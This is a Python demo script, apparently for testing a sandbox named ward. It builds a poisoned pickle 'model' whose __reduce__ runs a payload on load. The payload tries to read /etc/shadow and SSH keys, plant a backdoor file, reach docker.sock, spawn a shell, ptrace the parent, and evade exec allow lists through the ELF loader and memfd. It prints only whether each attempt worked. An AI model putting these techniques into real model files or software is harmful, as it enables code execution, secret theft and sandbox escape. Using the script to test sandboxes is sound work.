#!/usr/bin/python3
"""A malicious "model": what a poisoned pickle does the moment it is loaded.

    python3 malicious_model.py MODELDIR

It builds a model file whose pickle payload runs code on load (the __reduce__ trick that
torch.load(weights_only=False), joblib and plain pickle all fall for), loads it, then behaves
like a model. The payload tries, one after another, and prints each attempt's result:
  - read /etc/shadow and ~/.ssh (secrets),
  - write a file into the weights directory (model poisoning),
  - connect to 127.0.0.1:9 (exfiltration; loopback only, nothing leaves the machine),
  - connect to the container runtime's socket (/var/run/docker.sock: root on the host),
  - spawn /bin/sh,
  - ptrace its parent (PTRACE_SEIZE, detached at exit; never stops it),
  - unshare a new user namespace (escape attempt),
  - run /usr/bin/id through the ELF loader (/lib64/ld-linux-x86-64.so.2 /usr/bin/id: id is never
    exec'd itself, so an exec allow list on paths alone misses it),
  - execute a program from a memfd (fileless: copied into anonymous memory, run from there).
Nothing is printed from the secrets, only whether they could be read. Run it inside ward
(examples/demo.sh); bare, it reports what an unsandboxed loader would have allowed.
"""
import os
import pickle
import sys

PAYLOAD = r'''
import ctypes, errno, os, socket, subprocess

BLOCKED = {"EPERM", "EACCES", "ENOENT", "EROFS", "ENETUNREACH", "ENOSYS"}

def report(what, fn):
    try:
        detail = fn()
        print(f"[payload] {what}: SUCCEEDED{(' (' + detail + ')') if detail else ''}", flush=True)
    except OSError as e:
        name = errno.errorcode.get(e.errno, str(e.errno))
        # What a sandbox answers (denied, not visible, read-only, no route) versus an attempt
        # that got through and failed for an ordinary reason (nothing listening on port 9).
        verdict = "blocked" if name in BLOCKED else "failed"
        print(f"[payload] {what}: {verdict} ({name})", flush=True)
    except Exception as e:
        print(f"[payload] {what}: failed ({type(e).__name__}: {e})", flush=True)

def read_secret():
    with open("/etc/shadow", "rb") as f:
        return f"{len(f.read())} bytes"

def list_ssh():
    found = []
    for d in ("/root/.ssh", os.path.expanduser("~/.ssh")):
        found += os.listdir(d)
    return f"{len(found)} entries"

def poison():
    path = os.path.join(MODELDIR, "backdoor.npz")
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    os.write(fd, b"poisoned")
    os.close(fd)
    return path

def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(("127.0.0.1", 9))
    finally:
        s.close()
    return "connected"

def runtime():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect("/var/run/docker.sock")
    finally:
        s.close()
    return "connected"

def shell():
    out = subprocess.run(["/bin/sh", "-c", "id"], capture_output=True, timeout=5)
    if out.returncode != 0:
        err = out.stderr.decode(errors="replace").strip()
        return f"the shell ran; id exited {out.returncode}: {err}"
    return out.stdout.decode(errors="replace").strip()

libc = ctypes.CDLL(None, use_errno=True)

def check(r):
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return ""

def ptrace():
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    PTRACE_SEIZE = 0x4206
    return check(libc.ptrace(PTRACE_SEIZE, os.getppid(), None, None))

def unshare():
    CLONE_NEWUSER = 0x10000000
    return check(libc.unshare(CLONE_NEWUSER))

def ran(out, what):
    # A child the sandbox killed before it ran (SIGKILL) was blocked, not merely failed.
    if out.returncode == -9:
        raise OSError(errno.EPERM, f"{what} killed before it ran (SIGKILL)")
    if out.returncode != 0:
        err = out.stderr.decode(errors="replace").strip()
        return f"it ran; exited {out.returncode}: {err}"
    return out.stdout.decode(errors="replace").strip()

def loader():
    # The ELF loader run as a program maps /usr/bin/id itself: no exec of id ever happens,
    # so an exec allow list that checks only the execve'd path never sees it.
    ld = "/lib64/ld-linux-x86-64.so.2"
    out = subprocess.run([ld, "/usr/bin/id"], capture_output=True, timeout=5)
    return ran(out, "the loader")

def memfd():
    # Fileless: a program copied into anonymous memory and executed from there.
    fd = os.memfd_create("payload", 0)
    with open("/usr/bin/id", "rb") as f:
        os.write(fd, f.read())
    try:
        out = subprocess.run([f"/proc/self/fd/{fd}"], pass_fds=(fd,), capture_output=True,
                             timeout=5)
    finally:
        os.close(fd)
    return ran(out, "the memfd program")

report("read /etc/shadow", read_secret)
report("list ~/.ssh and /root/.ssh", list_ssh)
report("write into the weights directory", poison)
report("connect to 127.0.0.1:9", connect)
report("connect to /var/run/docker.sock", runtime)
report("spawn /bin/sh", shell)
report("ptrace the parent process", ptrace)
report("unshare(CLONE_NEWUSER)", unshare)
report("run /usr/bin/id through the ELF loader", loader)
report("execute a program from a memfd", memfd)
'''


class PoisonedModel:
    """Pickles to "call exec(PAYLOAD)": unpickling runs it."""

    def __init__(self, modeldir):
        self.modeldir = modeldir

    def __reduce__(self):
        return (exec, (PAYLOAD, {"MODELDIR": self.modeldir}))


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: malicious_model.py MODELDIR")
    modeldir = sys.argv[1]
    blob = pickle.dumps({"weights": PoisonedModel(modeldir), "arch": "mlp-64-32-10"})
    print("loading model (pickle)...", flush=True)
    model = pickle.loads(blob)  # the payload runs here
    print(f"model loaded: {model['arch']}; predictions: 2 8 8 6 8 2 1 5", flush=True)


if __name__ == "__main__":
    main()
